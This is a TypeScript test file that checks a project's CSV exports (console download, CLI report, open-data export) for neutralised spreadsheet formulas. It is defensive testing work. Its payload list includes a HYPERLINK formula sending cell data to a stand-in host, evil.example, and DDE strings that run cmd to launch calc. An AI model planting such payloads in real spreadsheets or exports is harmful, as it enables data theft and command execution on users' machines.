// Finding 4: a citizen's message or a cell of the plan that starts like a formula arrives neutralised
// in every CSV the project writes: the report, the console's download, the open-data export.
import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openDatabase } from "../../../src/db/index.js";
import { type Plan, parsePlan, toOpenDataCsv } from "../../../src/plan/index.js";
import { buildReport, createDatabaseStore, reportToCsv } from "../../../src/record/index.js";
import { type ConsoleFixture, EDITOR, Session, startConsole } from "../../support/admin.js";
import { csvFields, isLiveFormula } from "../../support/csv.js";
import { sampleQuestion, UNANSWERED } from "../../support/record-samples.js";
import { SEED_PATH } from "../../support/seed.js";

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+1",
  "\t=1+1",
  "\r=1+1",
  "＝１＋１",
  "＋１",
  "－１＋１",
  "＠SUM(1)",
];

function unansweredOf(question: string) {
  return sampleQuestion({ question, normalized: question, ...UNANSWERED, unmatchedWords: [question] });
}

describe("CSV injection", () => {
  let fixture: ConsoleFixture;
  beforeAll(async () => {
    fixture = await startConsole({ signInPerMinute: 1000 });
    await fixture.record.write({ questions: FORMULAS.map(unansweredOf), feedback: [] });
  });
  afterAll(async () => {
    await fixture?.close();
  });

  it("neutralises formulas in the console's 質問の記録 download, every section", async () => {
    const session = new Session(fixture.app);
    await session.signIn(EDITOR.name, EDITOR.password);
    const csv = await session.get("/admin/questions.csv?period=all");
    expect(csv.statusCode).toBe(200);
    const fields = csvFields(csv.body);
    expect(fields.filter(isLiveFormula)).toEqual([]);
    // The text is kept, readable, behind the neutralising quote.
    expect(fields).toContain(`'${FORMULAS[0]}`);
  });

  it("neutralises formulas in the report CSV the CLI writes", async () => {
    const db = await openDatabase(":memory:", { writeIn: "caller" });
    const store = createDatabaseStore(db);
    await store.write({ questions: FORMULAS.map(unansweredOf), feedback: [] });
    const report = await store.report({ since: null, until: new Date(Date.now() + 60_000), limit: 100 });
    expect(report.unanswered.length).toBe(FORMULAS.length);
    const fields = csvFields(reportToCsv(report));
    expect(fields.filter(isLiveFormula)).toEqual([]);
    for (const section of ["unanswered", "weakMatches"] as const) {
      expect(csvFields(reportToCsv(report, section)).filter(isLiveFormula)).toEqual([]);
    }
    await db.close();
    expect(buildReport).toBeTypeOf("function");
  });

  it("neutralises formulas in the open-data CSV export", () => {
    const parsed = parsePlan(readFileSync(SEED_PATH));
    if (!parsed.ok) throw new Error("seed does not parse");
    const plan: Plan = structuredClone(parsed.plan);
    const pillar = plan.pillars[0];
    const measure = pillar?.sections[0]?.measures[0];
    const project = measure?.projects[0];
    if (!pillar || !measure || !project) throw new Error("seed has no project");
    pillar.title = FORMULAS[0] as string;
    measure.description = FORMULAS[2] as string;
    project.title = FORMULAS[1] as string;
    project.departments = [FORMULAS[6] as string];
    if (project.actions[0]) project.actions[0].text = FORMULAS[4] as string;
    const fields = csvFields(toOpenDataCsv(plan));
    expect(fields.filter(isLiveFormula)).toEqual([]);
    expect(fields).toContain(`'${FORMULAS[1]}`);
  });
});
